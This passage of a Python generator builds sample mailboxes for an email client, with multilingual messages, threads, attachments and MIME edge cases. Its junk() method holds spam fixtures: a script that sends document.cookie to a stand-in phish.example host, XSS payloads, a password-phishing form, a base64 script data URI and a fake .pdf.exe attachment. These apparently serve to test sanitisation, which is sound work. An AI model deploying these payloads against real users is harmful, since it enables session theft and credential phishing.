             "Ao baixar um anexo chamado `relatório_março.pdf` o nome aparece como `relat=C3=B3rio...`.\n"
             "Passos para reproduzir no comentário #{line}.\n\nResponda a este e-mail ou veja em "
             "https://gitforge.example/{repo}/issues/{n}\n"),
            ("[{repo}] Pull request aprovado: Suporte a QRESYNC (#{n})", "bob aprovou as mudanças (revisão #{line}).\n\n"
             "> Ficou ótimo, só falta um teste para VANISHED (EARLIER).\n\nhttps://gitforge.example/{repo}/pull/{n}\n"),
            ("[{repo}] Comentário em \"Pasta Família não aparece na lista\" (#{n})", "Tomás comentou (#{line}):\n\n"
             "> Acho que é a codificação UTF-7 modificada do nome da pasta.\n\n"
             "https://gitforge.example/{repo}/issues/{n}#comment\n"),
        ]
        for i in range(count):
            subj_t, body_t = events[i % len(events)]
            n = 100 + i * 7
            date = self.when(300, 0, 1.8, tz="utc")
            fill = dict(repo=repo, n=n, line=self.rng.randrange(10, 400), run=self.rng.randrange(10 ** 6, 10 ** 7))
            m = self.text(body_t.format(**fill))
            rcpt = formataddr(ALICE[:2]) if owner == "alice" else formataddr(BOB[:2])
            self.headers(m, formataddr(("GitForge", "notifications@gitforge.example")), rcpt,
                         subj_t.format(**fill), date, extra={
                             "Reply-To": "reply+%s@gitforge.example" % hashlib.md5(str(n).encode()).hexdigest()[:16],
                             "List-Id": "%s <carteiro.carteiro.gitforge.example>" % repo,
                             "X-GitForge-Reason": self.rng.choice(["author", "mention", "subscribed", "review_requested"]),
                         })
            self.add(owner, m, date, box, self.unread_flags(date, 0.45, 0.03) if box == "INBOX" else {"\\Seen"})

    def international(self):
        out = []
        # Japanese, UTF-8
        out.append(("hanako", "来週の打ち合わせについて",
                    "アリスさん\n\nお疲れさまです。田中です。\n来週の打ち合わせは水曜日の午後三時からでよろしいでしょうか。"
                    "資料は前日までにお送りします。\n\nよろしくお願いいたします。\n田中 花子\n", "utf-8"))
        # Japanese, classic ISO-2022-JP
        out.append(("hanako", "桜の写真を送ります",
                    "アリスさん\n\n上野公園の桜が満開になりました。写真を何枚か撮ったので、後で送りますね。\n"
                    "日本に来る時はぜひ一緒にお花見しましょう。\n\n花子\n", "iso-2022-jp"))
        out.append(("hanako", "Re: Receita de onigiri 🍙",
                    "Alice-san,\n\nA receita é simples: arroz japonês, um pouco de sal, e recheio de umeboshi (梅干し) "
                    "ou salmão grelhado (焼き鮭). Enrole com alga nori (海苔) na hora de comer!\n\nはなこ\n", "utf-8"))
        # Greek, UTF-8 and ISO-8859-7
        out.append(("giorgos", "Καλημέρα από την Αθήνα",
                    "Αγαπητή Alice,\n\nΣου γράφω από την Αθήνα. Ο καιρός είναι υπέροχος και η Ακρόπολη φαίνεται "
                    "από το μπαλκόνι μου. Πότε θα έρθεις να μας επισκεφθείς;\n\nΜε αγάπη,\nΓιώργος\n", "utf-8"))
        out.append(("giorgos", "Πρόγραμμα συνεδρίου (ISO-8859-7)",
                    "Καλησπέρα,\n\nΤο πρόγραμμα του συνεδρίου είναι έτοιμο. Η ομιλία σου είναι την Πέμπτη στις "
                    "11:00.\n\nΓ. Παπαδόπουλος\n", "iso-8859-7"))
        # Russian in KOI8-R, Hebrew (RTL)
        out.append(("ivan", "Привет из Москвы",
                    "Здравствуйте, Алиса!\n\nСпасибо за письмо. Книгу получил, очень интересная. "
                    "Напишу подробнее на выходных.\n\nС уважением,\nИван\n", "koi8-r"))
        out.append(("noa", "שלום מתל אביב",
                    "שלום אליס,\n\nתודה רבה על ההזמנה! אשמח להגיע לכנס בסאו פאולו בחודש הבא.\n\nנועה\n", "utf-8"))
        # emoji-heavy
        out.append(("bia", "🎉🎂 Festa surpresa da Bia — NÃO CONTA PRA ELA 🤫",
                    "Gente!!! 🎉\n\nSábado às 19h na casa do João 🏠. Cada um leva um prato 🍝🥗🍰.\n"
                    "Presente: vaquinha de R$ 30 por pessoa 💸.\n\nBora! 🥳🥳🥳\n", "utf-8"))
        out.append(("caio", "😂😂😂 olha esse vídeo",
                    "kkkkkkk não aguento 🤣\nhttps://videos.example/watch?v=gato-pulando\n\n👍\n", "utf-8"))
        out.append(("olivia", "Lovely to meet you in Porto ☕",
                    "Hi Alice,\n\nIt was lovely to meet you at the conference in Porto! As promised, here is the "
                    "link to the slides: https://slides.example/olivia/porto\n\nCheers,\nOlivia\n", "utf-8"))
        out.append(("hans", "Grüße aus München - Oktoberfest?",
                    "Hallo Alice,\n\nwie geht's? Wir planen im September einen Besuch auf dem Oktoberfest. "
                    "Hättest du Lust, mitzukommen? Übernachtung bei uns ist kein Problem.\n\nViele Grüße\nHans\n",
                    "iso-8859-1"))
        out.append(("francois", "Réunion à São Paulo — ordre du jour",
                    "Bonjour Alice,\n\nVoici l'ordre du jour pour notre réunion de jeudi :\n  1. Bilan du trimestre\n"
                    "  2. Préparation de la conférence\n  3. Questions diverses\n\nÀ jeudi !\nFrançois\n", "utf-8"))
        for key, subject, body, charset in out:
            date = self.when(400, 0, 1.3, tz=P[key][2])
            name, email, _ = P[key]
            if charset == "utf-8":
                m = self.text(body, self.rng.choice([None, "quoted-printable", "base64", "8bit"]))
                self.headers(m, formataddr((name, email)), formataddr(ALICE[:2]), subject, date)
            else:
                m = MIMEText(body, "plain", charset)
                m["From"] = formataddr((name, email), charset)
                m["To"] = formataddr(ALICE[:2])
                m["Subject"] = Header(subject, charset)
                m["Date"] = format_datetime(date)
                m["Message-ID"] = self.msgid(email.split("@")[1])
            self.add("alice", m, date, "INBOX", self.unread_flags(date))

    def long_mail(self):
        date = self.when(200, 5, 1.0)
        # 1) minutes of a meeting, long, ISO-8859-1
        blocks = []
        for k in range(1, 41):
            blocks.append("%d. %s" % (k, " ".join(self.rng.sample(PARAGRAPHS, 2))))
        body = ("ATA DA ASSEMBLEIA GERAL ORDINÁRIA DO CONDOMÍNIO JARDIM DAS ACÁCIAS\n\n"
                "Aos doze dias do mês de março, às vinte horas, reuniram-se em segunda convocação os "
                "condôminos abaixo assinados...\n\n" + "\n\n".join(blocks) + "\n\nNada mais havendo a tratar, "
                "foi lavrada a presente ata.\n")
        m = MIMEText(latin(body), "plain", "iso-8859-1")
        m["From"] = formataddr(("Condomínio Jardim das Acácias", "sindico@jardimdasacacias.example"), "iso-8859-1")
        m["To"] = formataddr(ALICE[:2])
        m["Subject"] = Header("Ata da assembléia de março (texto integral)", "iso-8859-1")
        m["Date"] = format_datetime(date)
        m["Message-ID"] = self.msgid("jardimdasacacias.example")
        self.add("alice", m, date, "INBOX", {"\\Seen"})
        # 2) a long essay in UTF-8 (quoted-printable)
        date = self.when(100, 1, 1.0, tz="lx")
        paras = []
        for k in range(60):
            paras.append(" ".join(self.rng.sample(PARAGRAPHS, 3)))
        m = self.text("Querida Alice,\n\nComo prometido, aqui vai o relato completo da viagem, dia a dia.\n\n"
                      + "\n\n".join("Dia %d — %s" % (k + 1, p) for k, p in enumerate(paras))
                      + "\n\nUm beijinho grande,\nInês\n", "quoted-printable")
        self.headers(m, self.addr("ines"), formataddr(ALICE[:2]), "Diário de viagem: 60 dias pela Península Ibérica", date)
        self.add("alice", m, date, "INBOX", {"\\Seen", "\\Flagged"})
        # 3) a server log with very long lines
        date = self.when(60, 1, 1.0, tz="utc")
        lines = []
        for k in range(1500):
            lines.append("2024-05-%02dT%02d:%02d:%02dZ INFO carteiro::imap::actor session=%08x cmd=UID FETCH "
                         "1:* (FLAGS INTERNALDATE RFC822.SIZE BODY.PEEK[HEADER.FIELDS (FROM TO CC SUBJECT DATE "
                         "MESSAGE-ID IN-REPLY-TO REFERENCES)]) elapsed_ms=%d bytes=%d"
                         % (1 + k % 28, k % 24, k % 60, (k * 7) % 60, k * 2654435761 % 2 ** 32,
                            self.rng.randrange(1, 900), self.rng.randrange(100, 900000)))
        m = self.text("Log completo abaixo (1500 linhas).\n\n" + "\n".join(lines) + "\n")
        self.headers(m, self.addr("tomas"), formataddr(ALICE[:2]), "Log do servidor de ontem (longo!)", date)
        self.add("alice", m, date, "INBOX", self.unread_flags(date))
        # 4) big-ish PDF attachment (~250 KB)
        date = self.when(90, 3, 1.0)
        m = self.text("Alice, segue o relatório anual completo em PDF.\n\nAbraço,\nLuís\n")
        m.add_attachment(make_pdf("Relatório anual 2024", ["Sumário executivo", "Receitas e despesas", "Anexos"],
                                  pad_lines=3500), "application", "pdf", filename="relatório_anual_2024.pdf")
        self.headers(m, self.addr("luis"), formataddr(ALICE[:2]), "Relatório anual (PDF grande)", date)
        self.add("alice", m, date, "INBOX", {"\\Seen"})
        # 5) long HTML newsletter article
        date = self.when(45, 1, 1.0, tz="utc")
        art = "".join("<h3>Capítulo %d</h3><p>%s</p>" % (k + 1, " ".join(self.rng.sample(PARAGRAPHS, 4)))
                      for k in range(40))
        m = EmailMessage(policy=CRLF_POLICY)
        m.set_content("Versão em texto indisponível. Abra a versão HTML.\n")
        m.add_alternative("<html><body style=\"font-family:Georgia\"><h1>Especial: a história do café</h1>%s"
                          "</body></html>" % art, subtype="html")
        self.headers(m, formataddr(("Boletim Ciência & Café", "boletim@cienciaecafe.example")), formataddr(ALICE[:2]),
                     "Edição especial: a história do café em 40 capítulos ☕", date)
        self.add("alice", m, date, "INBOX", self.unread_flags(date, 0.6))

    def attachments_personal(self, count, box="INBOX", min_days=0, max_days=540, who=None, owner="alice"):
        for i in range(count):
            key = who[i % len(who)] if who else self.rng.choice(FRIENDS)
            date = self.when(max_days, min_days, 1.3, tz=P[key][2])
            kind = i % 4
            if kind == 0:
                subject = self.rng.choice(["Fotos do fim de semana 📷", "Olha que lindo!", "As fotos que prometi",
                                           "Foto da turma", "Pôr do sol de ontem"])
                m = self.text(self.body_personal(1) + "\nSeguem as fotos.\n")
                for k in range(self.rng.randrange(1, 4)):
                    m.add_attachment(make_png(self.rng.choice([96, 128, 160]), self.rng.choice([72, 96, 120]),
                                              self.counter * 10 + k), "image", "png",
                                     filename="IMG_%04d.png" % self.rng.randrange(1000, 9999))
            elif kind == 1:
                subject = self.rng.choice(["Anotações da reunião", "Lista de compras", "Texto para revisar",
                                           "Rascunho do discurso"])
                notes = "\n".join("- %s" % p[:80] for p in self.rng.sample(PARAGRAPHS, 5))
                m = self.text(self.body_personal(1) + "\nAnexei as anotações em .txt.\n")
                m.add_attachment(notes.encode("utf-8"), "text", "plain", filename="anotações.txt")
                # add_attachment on bytes does not set a charset: say it explicitly
                m.get_payload()[-1].set_param("charset", "utf-8")
            elif kind == 2:
                subject = self.rng.choice(["Planilha de gastos da viagem", "Lista de convidados", "Notas da turma"])
                rows = ["Nome;Valor;Observação"] + ["%s;%d,%02d;%s" % (
                    self.rng.choice(["João", "Bia", "Márcia", "Inês", "Caio", "Zélia", "Conceição"]),
                    self.rng.randrange(10, 500), self.rng.randrange(100),
                    self.rng.choice(["pago", "pendente", "pix", "dinheiro", "—"])) for _ in range(12)]
                m = self.text(self.body_personal(1) + "\nA planilha está em anexo.\n")
                m.add_attachment("\r\n".join(rows).encode("iso-8859-1", "replace"), "text", "csv",
                                 filename="planilha.csv")
                m.get_payload()[-1].set_param("charset", "iso-8859-1")
            else:
                subject = self.rng.choice(["Contrato para assinar", "Comprovante", "Orçamento em PDF",
                                           "Documento digitalizado"])
                m = self.text(self.body_personal(1) + "\nO PDF vai em anexo.\n")
                m.add_attachment(make_pdf(subject, [self.rng.choice(PARAGRAPHS)[:90], "Assinatura: ____________"]),
                                 "application", "pdf", filename=self.rng.choice(
                                     ["orçamento_março.pdf", "contrato de locação.pdf", "comprovante.pdf",
                                      "documento (1).pdf"]))
            rcpt = formataddr(ALICE[:2]) if owner == "alice" else formataddr(BOB[:2])
            self.headers(m, self.addr(key), rcpt, subject, date)
            self.add(owner, m, date, box, self.unread_flags(date) if box == "INBOX" else {"\\Seen"})

    def edge_cases(self):
        a = formataddr(ALICE[:2])
        # no subject at all
        date = self.when(200, 1, 1.0)
        m = self.text("(mensagem enviada sem assunto)\n\nMandei sem querer, desconsidera!\n")
        self.headers(m, self.addr("caio"), a, None, date)
        self.add("alice", m, date, "INBOX", {"\\Seen"})
        # empty subject and very long subject
        date = self.when(200, 1, 1.0)
        m = self.text("Assunto vazio.\n")
        self.headers(m, self.addr("joao"), a, "", date)
        self.add("alice", m, date, "INBOX", set())
        date = self.when(200, 1, 1.0)
        m = self.text("Desculpa o assunto enorme, o meu programa de e-mail cortou a mensagem e colou no assunto.\n")
        self.headers(m, self.addr("marcia"), a, "Re: Fwd: RES: Enc: Informações importantíssimas sobre a "
                     "reunião de condomínio, a obra da fachada, a piscina que continua interditada, o salão de "
                     "festas e a votação do novo síndico — por favor leiam até o fim ⚠️", date)
        self.add("alice", m, date, "INBOX", {"\\Seen"})
        # format=flowed
        date = self.when(200, 1, 1.0, tz="lx")
        m = MIMEText("Olá Alice, esta mensagem usa format=flowed, então as linhas longas foram quebradas com \n"
                     "um espaço no fim e o cliente deve juntá-las de novo num único parágrafo ao \n"
                     "exibir.\n\n> Citação também em formato \n> flowed.\n\n-- \nInês\n", "plain", "utf-8")
        m.set_param("format", "flowed")
        m["From"] = self.addr("ines")
        m["To"] = a
        m["Subject"] = "Teste de format=flowed"
        m["Date"] = format_datetime(date)
        m["Message-ID"] = self.msgid("example.pt")
        self.add("alice", m, date, "INBOX", {"\\Seen"})
        # many recipients + Reply-To
        date = self.when(150, 1, 1.0)
        m = self.text("Pessoal,\n\nA lista de presença do mutirão de limpeza está aberta. Respondam para a "
                      "coordenação (Reply-To), não para todos!\n\nAna Lúcia\n")
        self.headers(m, self.addr("analucia"), [a] + [self.addr(k) for k in ("joao", "bia", "marcia", "caio")],
                     "Mutirão de limpeza da praça — lista de presença", date,
                     cc=[self.addr(k) for k in ("tia", "mae", "luis", "tomas", "maria")],
                     extra={"Reply-To": formataddr(("Coordenação do Mutirão", "mutirao@associacao.example"))})
        self.add("alice", m, date, "INBOX", self.unread_flags(date))
        # forwarded message as attachment (message/rfc822)
        date = self.when(120, 1, 1.0)
        inner = self.text("Prezada Márcia,\n\nConfirmamos o agendamento da vistoria para o dia 20, às 10h.\n\n"
                          "Imobiliária Lar Doce Lar\n")
        self.headers(inner, formataddr(("Imobiliária Lar Doce Lar", "contato@lardocelar.example")),
                     self.addr("marcia"), "Agendamento de vistoria", date - dt.timedelta(days=1))
        m = self.text("Alice, olha a confirmação da imobiliária (encaminhada como anexo).\n\nMárcia\n")
        m.add_attachment(inner)
        self.headers(m, self.addr("marcia"), a, "Enc: Agendamento de vistoria", date)
        self.add("alice", m, date, "INBOX", {"\\Seen"})
        # calendar invitation
        date = self.when(60, 2, 1.0)
        start = (date + dt.timedelta(days=7)).astimezone(dt.timezone.utc)
        ics = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Carteiro demo//PT\r\nMETHOD:REQUEST\r\n"
               "BEGIN:VEVENT\r\nUID:%s\r\nDTSTAMP:%s\r\nDTSTART:%s\r\nDTEND:%s\r\n"
               "SUMMARY:Reunião de obra — cozinha\r\nLOCATION:Rua das Acácias, 45 — apto 82\r\n"
               "ORGANIZER;CN=Sérgio Mendonça:mailto:sergio@construtora-alicerce.example\r\n"
               "ATTENDEE;CN=Alice Andrade;RSVP=TRUE:mailto:alice@example.test\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
               % (hashlib.md5(str(date).encode()).hexdigest(), start.strftime("%Y%m%dT%H%M%SZ"),
                  start.strftime("%Y%m%dT%H%M%SZ"), (start + dt.timedelta(hours=1)).strftime("%Y%m%dT%H%M%SZ")))
        m = self.text("Convite: Reunião de obra — cozinha\nQuando: %s\n" % start.strftime("%d/%m/%Y %H:%M UTC"))
        m.add_alternative(ics, subtype="calendar", params={"method": "REQUEST"})
        self.headers(m, self.addr("sergio"), a, "Convite: Reunião de obra — cozinha", date)
        self.add("alice", m, date, "INBOX", set())
        # HTML only, windows-1252 declared
        date = self.when(300, 1, 1.0)
        html = ("<html><head><meta http-equiv=Content-Type content=\"text/html; charset=windows-1252\"></head>"
                "<body><p>Ol&aacute; Alice,</p><p>“Aspas curvas”, travessão — e reticências… no windows-1252.</p>"
                "<p><font face=Verdana color=#336699>Márcia</font></p></body></html>")
        m = MIMEText(html, "html", "windows-1252")
        m["From"] = self.addr("marcia")
        m["To"] = a
        m["Subject"] = Header("Mensagem do Outlook antigo", "windows-1252")
        m["Date"] = format_datetime(date)
        m["Message-ID"] = self.msgid("example.com.br")
        self.add("alice", m, date, "INBOX", {"\\Seen"})
        # attachment only, no text body
        date = self.when(200, 1, 1.0)
        m = MIMEMultipart("mixed")
        att = MIMEApplication(make_pdf("Boleto", ["Valor: R$ 150,00", "Vencimento: 10/06"]), "pdf")
        att.add_header("Content-Disposition", "attachment", filename=("utf-8", "", "boleto_junho_ção.pdf"))
        m.attach(att)
        m["From"] = self.addr("tia")
        m["To"] = a
        m["Subject"] = "boleto"
        m["Date"] = format_datetime(date)
        m["Message-ID"] = self.msgid("example.com.br")
        self.add("alice", m, date, "INBOX", {"\\Seen"})
        # mailing list message
        for k in range(4):
            date = self.when(100, 0, 1.0, tz="utc")
            m = self.text("%s\n\n-- \nrust-br mailing list\nhttps://listas.example/rust-br\n"
                          % self.rng.choice(["Alguém já usou o async-imap com tokio 1.x em produção?",
                                             "Dica: cargo tree -d mostra dependências duplicadas.",
                                             "Vaga remota para dev Rust (PJ) — detalhes no link.",
                                             "Encontro presencial em SP no dia 14, no auditório da faculdade."]))
            self.headers(m, self.addr(self.rng.choice(["joao", "tomas", "caio", "luis"])),
                         "rust-br@listas.example", "[rust-br] %s" % self.rng.choice(
                             ["async-imap em produção", "Dica de cargo", "Vaga Rust", "Encontro em SP"]),
                         date, extra={"List-Id": "Rust Brasil <rust-br.listas.example>",
                                      "List-Post": "<mailto:rust-br@listas.example>",
                                      "List-Unsubscribe": "<mailto:rust-br-leave@listas.example>",
                                      "Precedence": "list"})
            self.add("alice", m, date, "INBOX", self.unread_flags(date, 0.5))

    def junk(self):
        a = formataddr(ALICE[:2])
        spams = [
            ("Parabéns!!! Você GANHOU um iPhone 15 🎁🎁🎁", "premios@promo-gratis.example",
             "<html><body><h1 style=color:red>VOCÊ FOI SORTEADA!</h1>"
             "<script>document.location='https://phish.example/steal?c='+document.cookie</script>"
             "<p>Clique <a href=\"javascript:alert('xss')\">aqui</a> para resgatar.</p>"
             "<img src=x onerror=\"alert('pwned')\"><iframe src=\"https://phish.example/frame\"></iframe>"
             "</body></html>"),
            ("Sua conta será BLOQUEADA em 24h", "seguranca@banco-exemplo-atualizacao.example",
             "<html><head><link rel=stylesheet href=\"https://phish.example/evil.css\">"
             "<style>p{background:url(https://phish.example/beacon.gif)}</style></head><body>"
             "<p>Prezado cliente, atualize seus dados:</p>"
             "<form action=\"https://phish.example/login\" method=post><input name=cpf placeholder=CPF>"
             "<input type=password name=senha><button>Atualizar</button></form>"
             "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Ver detalhes</a>"
             "</body></html>"),
            ("URGENT BUSINESS PROPOSAL", "prince@royal-treasury.example",
             "<p>Dear Friend, I am Prince Adewale and I need your assistance to transfer US$ 25,000,000.</p>"),
            ("💰 Ganhe R$ 5.000 por dia com cripto", "lucro@cripto-facil.example",
             "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:#fff\">"
             "<p>Método secreto!!!</p><object data=\"https://phish.example/x.swf\"></object></div>"),
            ("Remédio milagroso para emagrecer", "vendas@emagrece-ja.example",
             "<p style=\"font-size:40px\">PERCA 10 KG EM 7 DIAS</p><img src=\"https://phish.example/antes-depois.jpg\">"),
            ("Fatura em atraso — boleto anexo", "cobranca@fatura-urgente.example", None),
        ]
        for subject, sender, html in spams:
            date = self.when(90, 0, 1.0, tz="utc")
            if html is None:
                m = self.text("Segue boleto em anexo. Pague hoje para evitar protesto.\n")
                m.add_attachment(b"MZ\x90\x00fake-executable-not-really" * 20, "application", "octet-stream",
                                 filename="boleto.pdf.exe")
            else:
                m = EmailMessage(policy=CRLF_POLICY)
                m.set_content(html, subtype="html")
            self.headers(m, sender, a, subject, date, extra={"X-Spam-Flag": "YES", "X-Spam-Score": "%d.%d" % (
                self.rng.randrange(6, 30), self.rng.randrange(10))})
            self.add("alice", m, date, "Junk", {"$Junk"} | ({"\\Seen"} if self.rng.random() < 0.5 else set()))

    # ---- threads ----------------------------------------------------------------------------

    def thread(self, subject, steps, box_in="INBOX", start_days=(30, 500), participants=None):
        """steps: list of (sender_key, hours_after_previous, body, attachments)."""
        start = self.when(start_days[1], start_days[0], 1.0, tz=P[steps[0][0]][2])
        t = start
        ids, prev = [], None
        parts = participants or sorted({s[0] for s in steps} | {"alice"})
        built = []
        for idx, step in enumerate(steps):
            key, hours, body, atts = (step + (None,))[:4]
            prev_t = t
            t = t + dt.timedelta(hours=hours, minutes=self.rng.randrange(60))
            t = min(t, self.anchor - dt.timedelta(minutes=30 * (len(steps) - idx)))
            if idx and t <= prev_t:
                t = prev_t + dt.timedelta(minutes=3)
            date = t.astimezone(TZ[P[key][2]]).replace(microsecond=0)
            prefix = "" if idx == 0 else self.rng.choice(["Re: ", "Re: ", "RE: ", "RES: "])
            quoted = ""
            if prev is not None:
                pdate, pkey, pbody = prev
                quoted = "\n\nEm %s, %s <%s> escreveu:\n%s" % (
                    pdate.strftime("%d/%m/%Y %H:%M"), P[pkey][0], P[pkey][1],
                    "\n".join(("> " + ln) if ln else ">" for ln in pbody.strip().split("\n")))
            m = self.text(body.strip() + "\n" + quoted + "\n")
            for att in atts or []:
                kind, data, fname = att
                maintype, subtype = kind.split("/")
                m.add_attachment(data, maintype, subtype, filename=fname)
            to = [self.addr(k) for k in parts if k != key]
            mid = self.msgid(P[key][1].split("@")[1])
            extra = {}
            if ids:
                extra["In-Reply-To"] = ids[-1]
                extra["References"] = " ".join(ids[-10:])
            self.headers(m, self.addr(key), to, prefix + subject, date, mid=mid, extra=extra)
            built.append((key, m, date))
            ids.append(mid)
            prev = (date, key, body)
        for idx, (key, m, date) in enumerate(built):
            replied_by_alice = any(k == "alice" for k, _, _ in built[idx + 1:])
            if key == "alice":
                box = "Sent" if box_in == "INBOX" else box_in
                self.add("alice", m, date, box, {"\\Seen"})
            else:
                last = idx == len(built) - 1
                flags = {"\\Seen"} if not last or self.rng.random() < 0.5 else set()
                if replied_by_alice:
                    flags |= {"\\Answered", "\\Seen"}
                if self.rng.random() < 0.1:
                    flags.add("\\Flagged")
                self.add("alice", m, date, box_in, flags)
            if "bob" in parts:
                if key == "bob":
                    self.add("bob", m, date, "Sent", {"\\Seen"})
                else:
                    self.add("bob", m, date, "INBOX", {"\\Seen"} if self.rng.random() < 0.6 else set())

    def all_threads(self):
        png = lambda n: make_png(160, 120, 7000 + n)
        self.thread("Churrasco de sábado 🍖", [
            ("bia", 0, "Gente, churrasco lá em casa no sábado a partir do meio-dia! Quem vem?"),
            ("joao", 2, "Tô dentro! Levo a picanha e o carvão."),
            ("alice", 3, "Eu vou! Posso levar a salada de batata e o vinagrete. Bob, você vem?"),
            ("bob", 5, "Vou sim! Levo as bebidas. Tem alguém vegetariano? Posso levar uns espetinhos de legumes."),
            ("bia", 20, "Ótimo, a Márcia é vegetariana, então os espetinhos vão ser um sucesso. Até sábado! 🎉"),
            ("joao", 40, "Valeu pelo churrasco, pessoal! Foi demais. Quem esqueceu um casaco azul lá?"),
        ], participants=["bia", "joao", "alice", "bob"], start_days=(20, 60))
        self.thread("Relatório trimestral — revisão", [
            ("luis", 0, "Alice, segue o rascunho do relatório trimestral. Podes rever a secção 3 até sexta?",
             [("text/plain", ("Relatório T%d\n\n1. Introdução\n2. Métodos\n3. Resultados (rever!)\n"
                              % 2).encode(), "rascunho_relatorio.txt")]),
            ("alice", 26, "Oi Luís, revisei a seção 3. Deixei comentários nos números da tabela 2, acho que "
                          "há um erro de soma. O resto está ótimo."),
            ("luis", 5, "Tens razão, corrigi. Em anexo a tabela revista.",
             [("text/csv", "Trimestre;Receita;Despesa\r\nT1;120.000;98.500\r\nT2;134.250;101.900\r\n".encode(),
               "tabela_2_revista.csv")]),
            ("alice", 3, "Perfeito, pode enviar para a diretoria."),
            ("luis", 48, "Enviado. Obrigado pela ajuda, Alice!"),
        ], start_days=(60, 200))
        self.thread("Viagem a Lisboa em março", [
            ("ines", 0, "Olá Alice! Então, sempre vens a Lisboa em março? Tenho um quarto livre cá em casa."),
            ("alice", 10, "Vou sim!! Chego dia 14 de manhã. Que maravilha poder ficar com você, obrigada!"),
            ("ines", 4, "Boa! Vou buscar-te ao aeroporto. Queres ir a Sintra no fim de semana?"),
            ("alice", 6, "Sintra com certeza! E quero comer pastel de nata em Belém, claro."),
            ("ines", 30, "Combinado. Já reservei o comboio para Sintra no sábado às 9h12."),
            ("ines", 200, "Que saudades já! Adorei a tua visita. Manda as fotos quando puderes.",
             [("image/png", png(1), "sintra.png"), ("image/png", png(2), "belém.png")]),
        ], start_days=(150, 400))
        self.thread("Dúvida sobre o contrato de aluguel", [
            ("alice", 0, "Márcia, você sabe se o reajuste do aluguel é pelo IGP-M ou pelo IPCA no nosso contrato?"),
            ("marcia", 8, "Pelo IPCA, está na cláusula 5ª. Mas a imobiliária sempre esquece e manda pelo IGP-M."),
            ("alice", 2, "Ah, então vou reclamar. Obrigada!"),
            ("marcia", 30, "Conseguiu resolver? Eu consegui o desconto retroativo depois de três e-mails 😅"),
        ], start_days=(200, 450))
        self.thread("Tradução do manual — 翻訳の件", [
            ("hanako", 0, "Alice-san,\n\nマニュアルの翻訳、ありがとうございます。第2章の用語について質問があります。\n"
                          "(Thank you for the translation. I have a question about chapter 2 terms.)"),
            ("alice", 12, "Hanako-san, claro! Pode mandar as dúvidas. O termo \"caixa de entrada\" é o nosso \"受信トレイ\"."),
            ("hanako", 9, "ありがとうございます！ \"Pasta\" は \"フォルダー\" でいいですか？"),
            ("alice", 5, "Sim, \"フォルダー\" está perfeito. 👍"),
        ], start_days=(90, 300))
        self.thread("Conferência em Atenas / Συνέδριο στην Αθήνα", [
            ("giorgos", 0, "Dear Alice, we would be honoured to have you as a speaker at our conference in Athens "
                           "(Συνέδριο Πληροφορικής). Travel costs are covered."),
            ("alice", 20, "Dear Giorgos, thank you for the invitation! I'd be happy to speak. Which dates?"),
            ("giorgos", 10, "Wonderful! 12–14 October. Ευχαριστώ πολύ!"),
            ("alice", 4, "Confirmed. Looking forward to it! Αντίο!"),
        ], start_days=(250, 480))
        self.thread("Bug #482: export to CSV fails with non-ASCII names", [
            ("hans", 0, "Hi Alice, exporting contacts with names like \"Müller\" or \"Gonçalves\" produces "
                        "garbage in the CSV. Log attached.",
             [("text/plain", "thread 'main' panicked at 'byte index 3 is not a char boundary'\n".encode(),
               "panic.log")]),
            ("alice", 6, "Thanks Hans, I can reproduce it. It's slicing a str at a byte offset. Fix coming."),
            ("hans", 3, "Great, thank you!"),
            ("alice", 28, "Fixed in version 0.4.2. Can you confirm?"),
            ("hans", 14, "Confirmed, works perfectly now. Vielen Dank!"),
        ], start_days=(30, 120))
        self.thread("Clube do livro — próximo encontro", [
            ("analucia", 0, "Queridas, o próximo livro é \"Torto Arado\". Encontro dia 25 na minha casa?"),
            ("olivia", 3, "I'll try to read it in Portuguese! Might be slow 😅"),
            ("alice", 5, "Ótima escolha! Dia 25 está ótimo pra mim. Levo uma torta de limão."),
            ("analucia", 50, "Lembrete: é amanhã! Não esqueçam o livro."),
            ("olivia", 2, "See you tomorrow! I finished it — what a book."),
        ], start_days=(5, 40))
        # Projetos/Obra: the kitchen renovation, all in one folder
        self.thread("Orçamento da reforma da cozinha", [
            ("sergio", 0, "Boa tarde, Dona Alice. Segue o orçamento da reforma da cozinha conforme a visita de ontem.",
             [("application/pdf", make_pdf("Orçamento nº 2024-117 — Reforma da cozinha", [
                 "Demolição e retirada de entulho ........ R$ 2.800,00",
                 "Instalação hidráulica ................... R$ 3.450,00",
                 "Revestimento (porcelanato 60x60) ........ R$ 6.900,00",
                 "Marcenaria (armários sob medida) ........ R$ 14.500,00",
                 "Total .................................... R$ 27.650,00"]), "orçamento_2024-117.pdf")]),
            ("alice", 20, "Sérgio, obrigada. Dá para trocar o porcelanato por um modelo mais barato? E qual o prazo?"),
            ("sergio", 6, "Dá sim, com o modelo Acácia Bege fica R$ 5.100,00. Prazo de 45 dias. Cronograma em anexo.",
             [("text/csv", ("Etapa;Início;Fim\r\nDemolição;01/06;05/06\r\nHidráulica;06/06;14/06\r\n"
                            "Revestimento;15/06;30/06\r\nMarcenaria;01/07;15/07\r\n").encode("utf-8"),
               "cronograma.csv")]),
            ("alice", 4, "Fechado! Podemos começar dia 1º de junho."),
            ("sergio", 400, "Dona Alice, a demolição terminou. Fotos em anexo.",
             [("image/png", png(3), "obra_dia1.png"), ("image/png", png(4), "obra_dia2.png"),
              ("image/png", png(5), "entulho.png")]),
            ("sergio", 240, "Encontramos um cano antigo de ferro na parede. Precisamos trocar — custo extra de R$ 850,00. "
                            "Posso seguir?"),
            ("alice", 2, "Pode seguir, Sérgio. Melhor trocar agora."),
            ("sergio", 700, "Obra concluída! Segue a foto final. Foi um prazer trabalhar com a senhora.",
             [("image/png", png(6), "cozinha_pronta.png")]),
        ], box_in="Projetos/Obra", start_days=(120, 200))
        # Família
        self.thread("Aniversário da mãe 🎂", [
            ("caio", 0, "Alice, o aniversário da mãe é dia 18. Vamos fazer um almoço surpresa?"),
            ("alice", 3, "Vamos! Eu cuido do bolo. Chama a tia Zélia?"),
            ("tia", 12, "Claro que vou, meus queridos! Levo o pudim de leite que a Conceição adora."),
            ("caio", 30, "Reservei o restaurante para 12 pessoas, às 13h."),
            ("mae", 100, "Meus filhos, que surpresa maravilhosa! Obrigada por tudo. Amo vocês ❤️",
             [("image/png", png(7), "familia_reunida.png")]),
